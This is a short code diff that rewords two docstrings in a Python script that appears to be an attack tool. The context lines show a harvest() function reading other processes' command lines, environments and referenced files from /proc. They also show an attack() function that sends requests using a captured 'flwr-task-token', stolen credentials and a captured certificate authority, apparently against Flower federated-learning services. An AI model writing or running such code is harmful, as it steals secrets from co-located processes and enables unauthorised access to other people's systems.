@@ -28,7 +28,7 @@ def read(path: Path) -> bytes:
 
 
 def harvest() -> bytes:
-    """All that processes show of their commands and environments, and every small file that their commands name."""
+    """Return what processes show of commands and environments, and every small file that their commands name."""
     found = b""
     for entry in Path("/proc").iterdir():
         if entry.name.isdigit() and int(entry.name) != os.getpid():
@@ -48,7 +48,7 @@ def post(client: httpx.Client, url: str, message: Any, headers: dict[str, str]) 
 
 
 def attack(place: dict[str, Any], calls: dict[str, Any]) -> list[str]:
-    """The paths that answer."""
+    """Return the paths that answer."""
     headers = {"flwr-task-token": place["token"]} | place["credential"]
     trust = ssl.create_default_context(cadata=place["authority"]) if place["authority"] else False
     with httpx.Client(verify=trust, timeout=20, trust_env=False) as client:
